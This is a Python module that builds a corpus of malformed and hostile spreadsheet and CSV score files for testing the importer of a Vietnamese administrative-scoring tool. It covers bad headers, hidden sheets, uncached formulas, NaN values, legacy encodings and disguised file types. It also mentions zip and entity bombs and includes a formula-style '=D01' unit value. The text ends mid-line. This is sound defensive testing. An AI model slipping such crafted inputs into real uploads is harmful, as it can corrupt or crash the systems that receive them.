"""The hostile-file corpus: how each file is made, and the store the tests import it into.

Every file of this folder named in ``manifest.yaml`` is written by a
function below, so the corpus can be read as code and made again::

    .venv/bin/python tests/data/bad/bad_corpus.py      # rewrites the small files

The output is byte-for-byte the same on every run (fixed timestamps in the
workbooks). Files that are big or dangerous to keep in git (a 50 MB file,
zip bombs) are made at test time in a temporary folder by the functions in
:data:`GENERATED`.

The tests import every file through the full path (:func:`import_file`:
``read_scores`` then ``TenantSession.write_scores``) into a copy of the store
made by :func:`build_store`, and compare :func:`store_checksum` before and
after.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import hashlib
import io
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import yaml
from sqlalchemy import MetaData, select

HERE = Path(__file__).resolve().parent
FRAMEWORK_ID = "corpus_test"
TENANT, USER = "t1", "lan"
OTHER_TENANT, OTHER_USER = "t2", "mai"
MANIFEST = HERE / "manifest.yaml"
#: Files of the folder that are not corpus files.
NOT_CORPUS = {"README.md", "manifest.yaml", "framework.yaml", "units.csv", "bad_corpus.py"}

LONG = ["unit_code", "year", "node_code", "self_score", "explanation"]
LONG_VI = ["Mã đơn vị", "Năm", "Mã tiêu chí", "Điểm tự chấm", "Giải trình"]
GOOD = [["D01", "2024", "1.1.1", "1", "Đã ban hành kế hoạch đúng hạn"],
        ["D01", "2024", "1.1.2", "1,5", "Hoàn thành 90% kế hoạch"],
        ["D01", "2024", "1.2", "4", "Báo cáo đủ, một báo cáo chậm"],
        ["D01", "2024", "2.2", "2", ""]]


# -- the framework, the units, the store -------------------------------------------

def framework():
    """The corpus framework (``framework.yaml``)."""
    from parindex_lib.framework import read_framework_yaml

    return read_framework_yaml((HERE / "framework.yaml").read_text(encoding="utf-8"), "framework.yaml")


def units(tenant: str = TENANT) -> pd.DataFrame:
    """The units of a tenant (``units.csv``): code, name, kind."""
    table = pd.read_csv(HERE / "units.csv", dtype=str, encoding="utf-8")
    return table[table["tenant"] == tenant].drop(columns="tenant").reset_index(drop=True)


def build_store(url: str) -> None:
    """Fill an empty store with what every corpus test starts from.

    Tenant ``t1`` (admin ``lan``): units D01-D04 (departments) and X01 (a
    commune, which the framework does not score); D01 2024 in draft with
    two scores; D03 2024 published. Tenant ``t2`` (admin ``mai``): unit E01
    with one score, so that a file naming E01 must not reach it.
    """
    from parindex_lib.store import Store

    with Store(url) as store:
        store.add_shared_framework(framework())
        store.create_tenant(TENANT, "Sở Nội vụ tỉnh thử nghiệm (giả định)", admin_user=USER)
        store.create_tenant(OTHER_TENANT, "Tenant khác (giả định)", admin_user=OTHER_USER)
        with store.session(tenant=TENANT, user=USER) as s:
            s.upsert_units(units(TENANT))
            s.create_assessment("D01", 2024, FRAMEWORK_ID)
            s.save_score("D01", 2024, "1.1.1", expected_version=0, self_score=0.5,
                         explanation="Ban hành chậm 5 ngày")
            s.save_score("D01", 2024, "1.2", expected_version=0, self_score=3,
                         explanation="Đã báo cáo đầy đủ")
            s.create_assessment("D03", 2024, FRAMEWORK_ID)
            s.save_score("D03", 2024, "1.2", expected_version=0, self_score=5, evidence="BC số 9/BC-SYT")
            for status in ("submitted", "appraised", "published"):
                s.set_status("D03", 2024, status, reason="kết quả đã công bố")
        with store.session(tenant=OTHER_TENANT, user=OTHER_USER) as s:
            s.upsert_units(units(OTHER_TENANT))
            s.create_assessment("E01", 2024, FRAMEWORK_ID)
            s.save_score("E01", 2024, "1.2", expected_version=0, self_score=2, explanation="Tenant khác")
        if store.dialect == "sqlite":
            with store.engine.connect() as conn:
                conn.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")


_REFLECTED: dict[str, MetaData] = {}


def store_checksum(engine: Any) -> str:
    """SHA-256 of every row of every table, in a fixed order.

    Works on SQLite and PostgreSQL alike; two stores with the same rows have
    the same checksum whatever the physical layout of their files. The
    tables are read from the database itself (reflected once per URL).
    """
    key = str(engine.url)
    meta = _REFLECTED.get(key)
    if meta is None:
        meta = _REFLECTED[key] = MetaData()
        meta.reflect(engine)
    h = hashlib.sha256()
    with engine.connect() as conn:
        for name in sorted(meta.tables):
            rows = sorted(repr(tuple(r)) for r in conn.execute(select(meta.tables[name])).all())
            h.update(f"{name}:{len(rows)}\n".encode())
            for r in rows:
                h.update(r.encode("utf-8", "surrogatepass"))
                h.update(b"\n")
    return h.hexdigest()


def import_file(store: Any, path: Path, *, year: int | None = None, sheet: str | None = None,
                max_bytes: int | None = None, wide_score: str = "self_score") -> tuple[pd.DataFrame, dict]:
    """Import a score file into tenant t1 the way the workbench does: read and check, then write all of it.

    Returns the scores read and the counts of ``write_scores``; raises what
    either step raises.
    """
    from parindex_lib.importing import read_scores
    from parindex_lib.safety import MAX_BYTES

    path = Path(path)
    with store.session(tenant=TENANT, user=USER) as s:
        fw = s.framework(FRAMEWORK_ID)
        scores = read_scores(path, fw, s.units(), year=year, sheet=sheet, wide_score=wide_score,
                             max_bytes=MAX_BYTES if max_bytes is None else max_bytes)
        counts = s.write_scores(scores, framework_id=fw.id, source=path.name)
    return scores, counts


def manifest() -> list[dict]:
    """The entries of ``manifest.yaml`` (see the README of this folder)."""
    return yaml.safe_load(MANIFEST.read_text(encoding="utf-8"))


# -- writing files ------------------------------------------------------------------

def csv_text(rows: list[list[str]], delimiter: str = ",", newline: str = "\r\n") -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return buf.getvalue()


def write_csv(path: Path, rows: list[list[str]], *, delimiter: str = ",", encoding: str = "utf-8",
              bom: bytes = b"") -> None:
    path.write_bytes(bom + csv_text(rows, delimiter).encode(encoding))


_FIXED = dt.datetime(2024, 3, 1, 8, 0, 0)


def xlsx(path: Path, sheets: dict[str, list[list[Any]]], *, title_rows: int = 0,
         fill: Callable[[Any, Any], None] | None = None) -> None:
    """A workbook written by xlsxwriter (as Excel would save it), one sheet per key.

    ``fill(workbook, worksheet_by_name)`` may add formulas, merges and formats.
    """
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path), {"strings_to_numbers": False, "strings_to_formulas": False,
                                         "strings_to_urls": False})
    wb.set_properties({"created": _FIXED})
    try:
        sheets_by_name = {}
        for name, rows in sheets.items():
            ws = wb.add_worksheet(name)
            sheets_by_name[name] = ws
            for i in range(title_rows):
                ws.write_string(i, 0, f"BẢNG TỰ CHẤM ĐIỂM CHỈ SỐ CCHC NĂM 2024 – dòng tiêu đề {i + 1}")
            for i, row in enumerate(rows, start=title_rows):
                for j, v in enumerate(row):
                    if v is None:
                        continue
                    if isinstance(v, str):
                        ws.write_string(i, j, v)
                    else:
                        ws.write(i, j, v)
        if fill:
            fill(wb, sheets_by_name)
    finally:
        wb.close()


# A workbook written part by part, for what Excel writers never produce but a
# hand-made or tampered file can hold (NaN cells, error cells, entity bombs).
_CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
       '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
       '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
       '<Default Extension="xml" ContentType="application/xml"/>'
       '<Override PartName="/xl/workbook.xml" '
       'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
       '{overrides}</Types>')
_SHEET_CT = ('<Override PartName="/xl/worksheets/sheet{n}.xml" '
             'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
         'officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WB = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
       '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
       'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>{sheets}</sheets>'
       '</workbook>')
_WB_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}'
            '</Relationships>')
_SHEET = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}'
          '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}'
          '</sheetData></worksheet>')


def _col(j: int) -> str:
    s = ""
    j += 1
    while j:
        j, r = divmod(j - 1, 26)
        s = chr(65 + r) + s
    return s


def _esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def cell_xml(ref: str, v: Any) -> str:
    """One ``<c>``: str -> inline string; number -> value; ``("v", text)`` raw value text;
    ``("e", "#N/A")`` an error cell; ``("f", formula, cached)`` a formula (cached None: no value)."""
    if isinstance(v, str):
        return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{_esc(v)}</t></is></c>'
    if isinstance(v, tuple):
        kind = v[0]
        if kind == "v":
            return f'<c r="{ref}"><v>{v[1]}</v></c>'
        if kind == "e":
            return f'<c r="{ref}" t="e"><v>{_esc(v[1])}</v></c>'
        if kind == "f":
            cached = "" if v[2] is None else f"<v>{v[2]}</v>"
            return f'<c r="{ref}"><f>{_esc(v[1])}</f>{cached}</c>'
        if kind == "xml":
            return v[1].format(ref=ref)
        raise ValueError(kind)
    return f'<c r="{ref}"><v>{v!r}</v></c>'


def raw_xlsx(path: Path, sheets: list[tuple[str, list[list[Any]]]], *, prolog: str = "",
             extra: dict[str, str | bytes] | None = None, far_cells: dict[str, Any] | None = None,
             hidden: tuple[str, ...] = ()) -> None:
    """A minimal workbook written part by part (fixed zip timestamps)."""
    parts: dict[str, str | bytes] = {}
    sheet_xml, rel_xml, overrides = [], [], []
    for n, (name, rows) in enumerate(sheets, start=1):
        state = ' state="hidden"' if name in hidden else ""
        sheet_xml.append(f'<sheet name="{_esc(name)}" sheetId="{n}"{state} r:id="rId{n}"/>')
        rel_xml.append(f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                       f'relationships/worksheet" Target="worksheets/sheet{n}.xml"/>')
        overrides.append(_SHEET_CT.format(n=n))
        body = []
        for i, row in enumerate(rows, start=1):
            cells = "".join(cell_xml(f"{_col(j)}{i}", v) for j, v in enumerate(row) if v is not None)
            body.append(f'<row r="{i}">{cells}</row>')
        if n == 1 and far_cells:
            for ref, v in far_cells.items():
                body.append(f'<row r="{"".join(ch for ch in ref if ch.isdigit())}">{cell_xml(ref, v)}</row>')
        parts[f"xl/worksheets/sheet{n}.xml"] = _SHEET.format(prolog=prolog if n == 1 else "", rows="".join(body))
    parts = {"[Content_Types].xml": _CT.format(overrides="".join(overrides)), "_rels/.rels": _RELS,
             "xl/workbook.xml": _WB.format(sheets="".join(sheet_xml)),
             "xl/_rels/workbook.xml.rels": _WB_RELS.format(rels="".join(rel_xml)), **parts, **(extra or {})}
    write_zip(path, parts)


def write_zip(path: Path, parts: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> None:
    with zipfile.ZipFile(path, "w", compression) as zf:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = compression
            zf.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)


def to_cp1258(text: str) -> bytes:
    """Windows-1258: base letters (ă â ê ô ơ ư đ) precomposed, the five tone marks combining after them."""
    tones = "\u0300\u0301\u0303\u0309\u0323"
    out = b""
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", ch)
            letter = unicodedata.normalize("NFC", "".join(c for c in parts if c not in tones))
            out += letter.encode("cp1258") + "".join(c for c in parts if c in tones).encode("cp1258")
    return out


# TCVN3 (TCVN 5712:1993, the ".VnTime" fonts): one byte per lower-case letter
# with its marks. Only the letters the corpus uses.
_TCVN3 = {
    "ă": 0xA8, "â": 0xA9, "ê": 0xAA, "ô": 0xAB, "ơ": 0xAC, "ư": 0xAD, "đ": 0xAE,
    "à": 0xB5, "ả": 0xB6, "ã": 0xB7, "á": 0xB8, "ạ": 0xB9,
    "ầ": 0xC7, "ẩ": 0xC8, "ẫ": 0xC9, "ấ": 0xCA, "ậ": 0xCB,
    "ề": 0xD2, "ể": 0xD3, "ễ": 0xD4, "ế": 0xD5, "ệ": 0xD6,
    "ì": 0xD7, "ỉ": 0xD8, "ĩ": 0xDC, "í": 0xDD, "ị": 0xDE,
    "ồ": 0xE5, "ổ": 0xE6, "ỗ": 0xE7, "ố": 0xE8, "ộ": 0xE9,
    "ờ": 0xEA, "ở": 0xEB, "ỡ": 0xEC, "ớ": 0xED, "ợ": 0xEE,
    "ừ": 0xF5, "ử": 0xF6, "ữ": 0xF7, "ứ": 0xF8, "ự": 0xF9,
    "ò": 0xDF, "ỏ": 0xE1, "õ": 0xE2, "ó": 0xE3, "ọ": 0xE4, "è": 0xCC, "ẻ": 0xCE, "ẽ": 0xCF, "é": 0xD0, "ẹ": 0xD1,
    "ù": 0xEF, "ủ": 0xF1, "ũ": 0xF2, "ú": 0xF3, "ụ": 0xF4,
}


def to_tcvn3(text: str) -> bytes:
    """Text as an old TCVN3 (ABC) file holds it (lower-case accented letters only)."""
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        if ch in _TCVN3:
            out.append(_TCVN3[ch])
        else:
            out += ch.encode("ascii")
    return bytes(out)


# -- the corpus ---------------------------------------------------------------------

FILES: dict[str, Callable[[Path], None]] = {}
GENERATED: dict[str, Callable[[Path], None]] = {}


def corpus(name: str, *, generated: bool = False) -> Callable:
    def register(fn: Callable[[Path], None]) -> Callable[[Path], None]:
        (GENERATED if generated else FILES)[name] = fn
        return fn
    return register


# headers ---------------------------------------------------------------------------

@corpus("headers_missing_unit_code.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG_VI[1:4], ["2024", "1.2", "4"], ["2024", "2.2", "2"]])


@corpus("headers_unrecognised.csv")
def _(p: Path) -> None:
    write_csv(p, [["Đơn vị chấm", "Tiêu chí số", "Điểm"], ["D01", "1.2", "4"]])


@corpus("headers_no_score_column.csv")
def _(p: Path) -> None:
    write_csv(p, [["unit_code", "year", "node_code", "Ghi chú"], ["D01", "2024", "1.2", "4 điểm"]])


@corpus("headers_duplicate_score_column.csv")
def _(p: Path) -> None:
    write_csv(p, [["unit_code", "year", "node_code", "Điểm tự chấm", "self_score"], ["D01", "2024", "1.2", "4", "3"]])


@corpus("headers_only.xlsx")
def _(p: Path) -> None:
    xlsx(p, {"Điểm": [LONG_VI]})


@corpus("no_header_data_only.csv")
def _(p: Path) -> None:
    write_csv(p, [["D01", "2024", "1.2", "4"], ["D02", "2024", "1.2", "3"]])


@corpus("wide_unknown_and_parent_columns.xlsx")
def _(p: Path) -> None:
    xlsx(p, {"Điểm": [["Mã đơn vị", "Năm", "1.1.1", "1.1", "1.3", "1.2"], ["D01", 2024, 1, 2, 1, 4]]})


@corpus("wide_duplicate_leaf_columns.csv")
def _(p: Path) -> None:
    write_csv(p, [["unit_code", "year", "1.2", "1.2 Báo cáo CCHC"], ["D02", "2024", "4", "3"]])


# sheets ----------------------------------------------------------------------------

@corpus("extra_sheets_scores_on_third.xlsx")
def _(p: Path) -> None:
    xlsx(p, {"Hướng dẫn": [["Nhập điểm vào sheet Điểm"], ["Tiêu chí", "Điểm tối đa"], ["1.2", 5]],
             "Tổng hợp": [["Tổng", 20], ["Ghi chú", "không phải bảng điểm"]],
             "Điểm": [LONG_VI] + [[u, int(y), c, s, e] for u, y, c, s, e in GOOD]})


@corpus("extra_sheets_hidden_first.xlsx")
def _(p: Path) -> None:
    raw_xlsx(p, [("Nháp", [LONG, ["D01", 2024, "1.2", "bốn"], ["D99", 2024, "9.9", 99]]),
                 ("Điểm", [LONG, ["D02", 2024, "1.2", 4.5], ["D02", 2024, "2.2", "1,5"]])], hidden=("Nháp",))


# merged cells ----------------------------------------------------------------------

@corpus("merged_title_rows.xlsx")
def _(p: Path) -> None:
    def fill(wb, ws):
        bold = wb.add_format({"bold": True, "align": "center"})
        ws["Điểm"].merge_range(0, 0, 0, 4, "UBND TỈNH THỬ NGHIỆM – BẢNG TỰ CHẤM ĐIỂM NĂM 2024", bold)
        ws["Điểm"].merge_range(1, 0, 1, 4, "(Kèm theo Kế hoạch số 12/KH-SNV)", bold)
    xlsx(p, {"Điểm": [[None], [None]] + [LONG_VI] + [[u, int(y), c, s, e] for u, y, c, s, e in GOOD]}, fill=fill)


@corpus("merged_unit_cells_long.xlsx")
def _(p: Path) -> None:
    def fill(wb, ws):
        ws["Điểm"].merge_range(1, 0, 3, 0, "D02")
        ws["Điểm"].merge_range(1, 1, 3, 1, 2024)
    xlsx(p, {"Điểm": [LONG[:4], [None, None, "1.1.1", 0.5], [None, None, "1.1.2", 2], [None, None, "1.2", 5]]},
         fill=fill)


@corpus("merged_score_cells_wide.xlsx")
def _(p: Path) -> None:
    def fill(wb, ws):
        ws["Điểm"].merge_range(1, 2, 1, 3, 1.5)  # one value over 1.1.1 (rubric 1 / 0,5 / 0) and 1.1.2
    xlsx(p, {"Điểm": [["Mã đơn vị", "Năm", "1.1.1", "1.1.2", "1.2"], ["D02", 2024, None, None, 3]]}, fill=fill)


# formulas --------------------------------------------------------------------------

@corpus("formulas_cached_values.xlsx")
def _(p: Path) -> None:
    def fill(wb, ws):
        ws["Điểm"].write_formula(1, 3, "=0.5+0.5", None, 1)
        ws["Điểm"].write_formula(2, 3, "=ROUND(3/2,2)", None, 1.5)
        ws["Điểm"].write_formula(3, 3, "=SUM(2,2.5)", None, 4.5)
    xlsx(p, {"Điểm": [LONG[:4], ["D02", 2024, "1.1.1"], ["D02", 2024, "1.1.2"], ["D02", 2024, "1.2"]]}, fill=fill)


@corpus("formulas_no_cached_values.xlsx")
def _(p: Path) -> None:
    raw_xlsx(p, [("Điểm", [LONG[:4], ["D02", 2024, "1.1.2", ("f", "0.5+0.5", None)],
                           ["D02", 2024, "1.2", ("f", "SUM(B2:B3)", None)], ["D02", 2024, "2.2", 2]])])


@corpus("formulas_cached_errors.xlsx")
def _(p: Path) -> None:
    raw_xlsx(p, [("Điểm", [LONG[:4], ["D02", 2024, "1.1.2", ("e", "#DIV/0!")],
                           ["D02", 2024, "1.2", ("e", "#REF!")], [("e", "#N/A"), 2024, "2.2", 1]])])


@corpus("formulas_shared_no_cache.xlsx")
def _(p: Path) -> None:
    shared_master = '<c r="{ref}"><f t="shared" ref="D2:D3" si="0">1+1</f></c>'
    shared_child = '<c r="{ref}"><f t="shared" si="0"/></c>'
    raw_xlsx(p, [("Điểm", [LONG[:4], ["D02", 2024, "1.1.2", ("xml", shared_master)],
                           ["D02", 2024, "1.2", ("xml", shared_child)]])])


@corpus("formula_cached_over_maximum.xlsx")
def _(p: Path) -> None:
    def fill(wb, ws):
        ws["Điểm"].write_formula(1, 3, "=5+2", None, 7)
    xlsx(p, {"Điểm": [LONG[:4], ["D02", 2024, "1.2"]]}, fill=fill)


# text and numbers ------------------------------------------------------------------

@corpus("text_in_number_cells.csv")
def _(p: Path) -> None:
    bad = ["đạt", "x", "1/2", "N/A", "một", "1 điểm", "50%", "1..5"]
    codes = ["1.1.2", "1.2", "2.2"]
    rows = [LONG[:4]]
    units_ = ["D01", "D02", "D04"]
    for i, v in enumerate(bad):
        rows.append([units_[i // 3], "2024", codes[i % 3], v])
    write_csv(p, rows)


@corpus("numbers_as_text_cells.xlsx")
def _(p: Path) -> None:
    xlsx(p, {"Điểm": [LONG[:4], ["D02", "2024", "1.1.1", "0,5"], ["D02", " 2024 ", "1.1.2", " 1.5 "],
                      ["D02", "2024", "1.2", "4,0"], ["D02", "2024", "2.2", "2"]]})


@corpus("boolean_and_date_cells.xlsx")
def _(p: Path) -> None:
    def fill(wb, ws):
        date = wb.add_format({"num_format": "dd/mm/yyyy"})
        ws["Điểm"].write_boolean(1, 3, True)
        ws["Điểm"].write_datetime(2, 1, dt.datetime(2024, 1, 1), date)
        ws["Điểm"].write_datetime(3, 3, dt.datetime(2024, 2, 1), date)
    xlsx(p, {"Điểm": [LONG[:4], ["D02", 2024, "1.1.2"], ["D02", None, "1.2", 3], ["D02", 2024, "2.2"]]}, fill=fill)


@corpus("decimal_comma_semicolon.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG_VI[:4], ["D02", "2024", "1.1.1", "0,5"], ["D02", "2024", "1.1.2", "1,25"],
                  ["D02", "2024", "1.2", "4,75"], ["D02", "2024", "2.2", "1,5"]], delimiter=";")


@corpus("decimal_comma_quoted.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4], ["D04", "2024", "1.1.2", "1,25"], ["D04", "2024", "1.2", "3,5"],
                  ["D04", "2024", "2.2", "0,75"]])


@corpus("decimal_styles_mixed.xlsx")
def _(p: Path) -> None:
    xlsx(p, {"Điểm": [LONG[:4], ["D04", 2024, "1.1.1", 0.5], ["D04", 2024, "1.1.2", "1,000"],
                      ["D04", 2024, "1.2", "4.75"], ["D04", 2024, "2.2", "1,5"]]})


@corpus("thousands_separators.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4], ["D02", "2024", "1.2", "1.234,5"], ["D04", "2024", "1.2", "1,234.5"],
                  ["D02", "2024", "1.1.2", "12.345"], ["D04", "2024", "1.1.2", "1 234,5"]], delimiter=";")


# values ----------------------------------------------------------------------------

@corpus("over_maximum.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4], ["D02", "2024", "1.2", "5,5"], ["D02", "2024", "1.1.2", "2.01"],
                  ["D02", "2024", "2.2", "3"]], delimiter=";")


@corpus("negatives.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4] + ["bonus"], ["D02", "2024", "1.2", "-1", ""], ["D02", "2024", "1.1.2", "-0,5", ""],
                  ["D02", "2024", "2.2", "\u22121", ""], ["D02", "2024", "1.1.1", "1", "-1"]], delimiter=";")


@corpus("nan_inf_text.csv")
def _(p: Path) -> None:
    vals = ["NaN", "nan", "inf", "-inf", "Infinity", "1e999"]
    rows = [LONG[:4]]
    for i, v in enumerate(vals):
        rows.append([["D02", "D04"][i // 3], "2024", ["1.1.2", "1.2", "2.2"][i % 3], v])
    write_csv(p, rows)


@corpus("nan_inf_numeric_cells.xlsx")
def _(p: Path) -> None:
    raw_xlsx(p, [("Điểm", [LONG[:4], ["D02", 2024, "1.1.2", ("v", "NaN")], ["D02", 2024, "1.2", ("v", "INF")],
                           ["D02", 2024, "2.2", ("v", "1e309")], ["D04", 2024, "1.2", ("v", "-INF")]])])


@corpus("rubric_off_level.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4], ["D02", "2024", "1.1.1", "0,7"], ["D04", "2024", "1.1.1", "0.25"]])


@corpus("survey_node_self_scored.csv")
def _(p: Path) -> None:
    write_csv(p, [["unit_code", "year", "node_code", "self_score", "survey_points"],
                  ["D02", "2024", "2.1", "8", ""], ["D02", "2024", "1.2", "", "4"]])


@corpus("bonus_over_cap.csv")
def _(p: Path) -> None:
    write_csv(p, [["unit_code", "year", "node_code", "self_score", "bonus", "penalty"],
                  ["D02", "2024", "1.2", "4", "5", ""], ["D04", "2024", "1.2", "4", "", "3,5"]], delimiter=";")


@corpus("bonus_over_cap_below_title.csv")
def _(p: Path) -> None:
    write_csv(p, [["BẢNG ĐIỂM THƯỞNG, ĐIỂM TRỪ NĂM 2024"], [""],
                  ["Mã đơn vị", "Năm", "Mã tiêu chí", "Điểm tự chấm", "Điểm thưởng"],
                  ["D02", "2024", "1.1.2", "2", ""], ["D02", "2024", "1.2", "4", ""],
                  ["D04", "2024", "1.2", "4", "5"]], delimiter=";")


# duplicates and unknown codes ---------------------------------------------------------

@corpus("duplicate_unit_node_rows.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4], ["D02", "2024", "1.2", "4"], ["D02", "2024", "2.2", "1"], ["D02", "2024", "1.2", "3"]])


@corpus("duplicate_after_cleaning.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4], ["D02", "2024", "1.2", "4"], [" D02 ", "2024", "1.2.", "3"],
                  ["D02", "2024", " 1.2", "2"]])


@corpus("duplicate_unit_rows_wide.xlsx")
def _(p: Path) -> None:
    xlsx(p, {"Điểm": [["Mã đơn vị", "Tên đơn vị", "Năm", "1.1.2", "1.2"], ["D02", "Sở Tài chính", 2024, 1, 4],
                      ["D04", "Sở KH&CN", 2024, 2, 5], ["D02", "Sở Tài chính (bản sửa)", 2024, 2, 5]]})


@corpus("unknown_units.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4], ["D99", "2024", "1.2", "4"], ["d02", "2024", "1.2", "4"],
                  ["E01", "2024", "1.2", "4"], ["=D01", "2024", "1.2", "4"], ["", "2024", "2.2", "1"]])


@corpus("unknown_node_codes.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4], ["D02", "2024", "9.9", "1"], ["D02", "2024", "1.1", "2"], ["D02", "2024", "1.1.1.1", "1"],
                  ["D02", "2024", "", "1"], ["D02", "2024", "I.1", "1"]])


@corpus("year_problems.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4], ["D02", "2024,5", "1.2", "1"], ["D02", "năm 2024", "1.1.2", "1"], ["D02", "", "2.2", "1"],
                  ["D04", "1899", "1.2", "1"], ["D04", "2025", "1.1.2", "1"], ["D04", "2.024", "2.2", "1"]])


@corpus("year_not_the_imported_year.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4], ["D02", "2024", "1.2", "1"], ["D02", "2023", "1.1.2", "1"]])


@corpus("unit_kind_not_scored.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4], ["X01", "2024", "1.2", "4"], ["X01", "2024", "2.2", "1"]])


@corpus("published_assessment_wide.xlsx")
def _(p: Path) -> None:
    xlsx(p, {"Điểm": [["Mã đơn vị", "Năm", "1.1.2", "1.2"], ["D02", 2024, 1, 4], ["D03", 2024, 2, 4]]})


# unicode and encodings -----------------------------------------------------------------

@corpus("nfd_everything.csv")
def _(p: Path) -> None:
    text = csv_text([LONG_VI, ["D02", "2024", "1.2", "4,5", "Đã hoàn thành, đúng tiến độ"],
                     ["D02", "2024", "2.2", "2", "Hồ sơ giải quyết đúng hạn"]])
    p.write_bytes(unicodedata.normalize("NFD", text).encode("utf-8"))


@corpus("invisible_characters.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG[:4], ["D02\u200b", "2024", "1.2", "4"], ["D02", "2024", "1.1.2\u200b", "1"],
                  ["D04\u00a0", "2024", "2.2", "1"]])


@corpus("utf8_bom.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG_VI] + [["D02"] + r[1:] for r in GOOD], bom=codecs.BOM_UTF8)


@corpus("utf16le_bom_tab.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG_VI] + [["D02"] + r[1:] for r in GOOD], delimiter="\t", encoding="utf-16-le",
              bom=codecs.BOM_UTF16_LE)


@corpus("utf16be_bom.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG_VI] + [["D04"] + r[1:] for r in GOOD], encoding="utf-16-be", bom=codecs.BOM_UTF16_BE)


@corpus("windows_1258.csv")
def _(p: Path) -> None:
    p.write_bytes(to_cp1258(csv_text([LONG_VI] + [["D02"] + r[1:] for r in GOOD], ";")))


@corpus("tcvn3.csv")
def _(p: Path) -> None:
    rows = [["Ma don vi", "Nam", "Ma tieu chi", "Diem tu cham", "Giai trinh"],
            ["D02", "2024", "1.2", "4", "Sở đã báo cáo đầy đủ"], ["D02", "2024", "2.2", "2", "Hồ sơ đúng hạn"]]
    p.write_bytes(to_tcvn3(csv_text(rows, ";")))


@corpus("utf8_bom_then_latin1.csv")
def _(p: Path) -> None:
    p.write_bytes(codecs.BOM_UTF8 + csv_text([LONG_VI] + GOOD[:2]).encode("latin-1", "replace")
                  + "Sở".encode("cp1258", "replace") + b"\xe9\xe8\r\n")


@corpus("utf16_bom_odd_bytes.csv")
def _(p: Path) -> None:
    p.write_bytes(codecs.BOM_UTF16_LE + csv_text([LONG] + GOOD[:1]).encode("utf-16-le") + b"\x41")


@corpus("nul_in_text_utf16.csv")
def _(p: Path) -> None:
    write_csv(p, [LONG, ["D02", "2024", "1.2", "4", "Báo cáo\x00đủ"]], encoding="utf-16-le",
              bom=codecs.BOM_UTF16_LE)


# empty and disguised files -------------------------------------------------------------

@corpus("empty.csv")
def _(p: Path) -> None:
    p.write_bytes(b"")


@corpus("blank_lines_only.csv")
def _(p: Path) -> None:
    p.write_bytes(b"\r\n  \r\n;;;\r\n\r\n")


@corpus("empty_workbook.xlsx")
def _(p: Path) -> None:
    xlsx(p, {"Sheet1": []})


@corpus("csv_renamed.xlsx")
def _(p: Path) -> None:
    write_csv(p, [LONG] + GOOD)


@corpus("workbook_renamed.csv")
def _(p: Path) -> None:
    xlsx(p, {"Điểm": [LONG] + GOOD})


@corpus("legacy_excel_97.xls")
def _(p: Path) -> None:
    # The OLE2 compound-file header that Excel 97-2003 .xls files start with.
    p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
                  + b"\x06\x00" + b"\x00" * 470 + "Workbook".encode("utf-16-le") + b"\x00" * 512)


@corpus("password_protected.xlsx")
def _(p: Path) -> None:
    # A password-protected .xlsx is an OLE2 file holding EncryptionInfo and EncryptedPackage streams.
    p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "EncryptionInfo".encode("utf-16-le")
